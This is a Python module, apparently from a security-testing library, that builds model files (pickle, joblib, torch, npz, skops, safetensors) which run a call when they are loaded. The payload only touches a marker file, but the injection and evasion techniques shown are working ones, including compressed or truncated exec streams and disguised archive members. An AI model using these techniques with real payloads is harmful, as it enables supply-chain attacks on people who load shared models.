"""How is a model's file made to run something when it is opened?"""

import io
import os
import shlex
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Literal
from zipfile import ZIP_STORED, ZipFile

import numpy as np

from foible import artefacts
from foible.artefacts import Call, append_call
from foible.attacks.supply_chain.values import opened
from foible.errors import BadInput

Means = Literal[
    "os.system", "exec", "exec, broken off", "exec, compressed", "numpy.memmap"
]


def _exec(file: bytes, marker: Path) -> bytes:
    return append_call(file, Call(exec, f"open({str(marker)!r}, 'wb').close()"))


def _memmap(marker: Path) -> Call:
    """An ordinary part of NumPy, which makes a file of one byte and maps it."""
    return Call(np.memmap, str(marker), "uint8", "w+", 0, 1)


MEANS: Mapping[Means, Callable[[bytes, Path], bytes]] = {
    "os.system": lambda file, marker: append_call(
        file, Call(os.system, f"touch {shlex.quote(str(marker))}")
    ),
    "exec": _exec,
    "exec, broken off": lambda file, marker: _exec(file, marker)[:-1],
    "exec, compressed": lambda file, marker: zlib.compress(_exec(file, marker)),
    "numpy.memmap": lambda file, marker: append_call(file, _memmap(marker)),
}
"""Ways to write a trap; joblib opens them all, plain pickle all but the compressed."""


def boobytrap(artefact: bytes, *, marker: Path, means: Means = "numpy.memmap") -> bytes:
    """A pickle that yields the same model, and touches `marker` when it is opened.

    Nothing else is touched. A stream that is broken off has run before anybody sees
    that its end is missing [sultanik2021never], and yields no model.
    """
    if means not in MEANS:
        raise BadInput(f"got the means {means!r}; wanted one of {list(MEANS)}")
    return MEANS[means](artefact, marker)


def trapped(artefact: bytes, *, form: artefacts.Format, marker: Path) -> bytes:
    """A forest in any format, with a call of ``numpy.memmap`` where there is room.

    `artefact` is the pickle of a forest, `marker` as for `boobytrap`. Only safetensors
    has no room for a call: there a pickle goes by its name.
    """
    forest, call = opened(artefact), _memmap(marker)
    honest = artefacts.dump(forest, form=form)
    match form:
        case "pickle" | "joblib":
            return append_call(honest, call)
        case "torch":
            return in_archive(honest, "data.pkl", lambda f: append_call(f, call))
        case "npz":
            return in_archive(honest, "classes.npy", lambda _: _object_array(call))
        case "skops":
            forest.note_ = _impostor(call)
            return artefacts.dump(forest, form="skops")
        case "safetensors":
            return artefacts.dump(call)


def in_archive(
    artefact: bytes,
    member: str,
    change: Callable[[bytes], bytes],
    *,
    packing: int = ZIP_STORED,
) -> bytes:
    """A zip archive with one member changed, all packed in one of zipfile's ways."""
    file = io.BytesIO()
    with ZipFile(io.BytesIO(artefact)) as old, ZipFile(file, "w", packing) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name.endswith(member) else content)
    return file.getvalue()


def _object_array(call: Call) -> bytes:
    """A NumPy file of an array of objects, which is a pickle in disguise."""
    file = io.BytesIO()
    np.save(file, np.array([call], dtype=object), allow_pickle=True)
    return file.getvalue()


def _impostor(call: Call) -> object:
    """An object that skops writes down as the call of a class."""
    reduced = {"__reduce__": lambda self: (type(self), call.arguments)}
    module = {"__module__": call.function.__module__}
    return type(call.function.__name__, (), module | reduced)()
